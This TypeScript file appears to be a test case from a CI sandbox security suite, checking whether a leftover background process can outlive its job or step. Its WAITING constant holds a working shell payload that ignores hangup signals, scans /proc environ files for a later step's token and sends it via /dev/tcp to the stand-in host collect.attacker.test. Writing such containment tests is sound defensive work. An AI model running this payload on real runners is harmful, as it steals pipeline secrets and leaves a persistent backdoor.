import type { Attack } from '../../attack.ts';
import { event, notAsked } from '../../expected-event.ts';

/** Waits in the background for the variables of a later step, and sends what it finds. */
const WAITING = `(trap '' HUP TERM
for turn in $(seq 200); do
  for file in /proc/[0-9]*/environ; do
    found=$(tr '\\0' '\\n' <"$file" 2>/dev/null | sed -n 's/^LATER_TOKEN=//p')
    [ -z "$found" ] && continue
    exec 3<>/dev/tcp/collect.attacker.test/80 && printf 'GET /%s HTTP/1.1\\r\\nHost: collect.attacker.test\\r\\n\\r\\n' "$found" >&3
    exit
  done
  sleep 0.02
done) </dev/null >/dev/null 2>&1 &`;

export const attack: Attack = {
  name: 'daemon',
  title: 'A process that waits for the next step, or the next job',
  story:
    'A process that is left behind, in a session of its own and without a parent, waits for what comes next and takes what ' +
    'that holds: the next job on a runner that is used again, which is how self-hosted runners are turned into doors, or a ' +
    'later step of the same job, which is given a secret that the first was not.',
  sources: [
    [
      'self-hosted runners as backdoors, 2022',
      'https://www.praetorian.com/blog/self-hosted-github-runners-are-backdoors/',
    ],
    ['MITRE ATT&CK T1543', 'https://attack.mitre.org/techniques/T1543/'],
    ['practical guide §1, §5'],
  ],
  cases: [
    {
      name: 'outlives-its-job',
      control: 'all processes end with the job',
      without: ['process-namespace', 'ending'],
      holdsCanary: true,
      harm: ({ processes, canary }) =>
        processes(`daemon-${canary}`).length > 0 ? 'it lives after its job has ended' : undefined,
      event: event('sandbox.destroyed', 'nothing left', ({ leftBehind }) => leftBehind.length === 0),
    },
    {
      name: 'outlives-its-step',
      control: 'the gateway: what a later step holds goes nowhere else',
      without: ['gateway'],
      workflow: {
        event: 'push',
        steps: [
          { run: WAITING },
          {
            run: 'sleep 2 # with the secret',
            env: { LATER_TOKEN: '${{ secrets.TOKEN }}' },
          },
        ],
      },
      harm: ({ sink, canary }) => sink.got(canary) && 'the secret of the later step arrived',
      event: notAsked(({ name }) => name === 'collect.attacker.test'),
    },
  ],
};
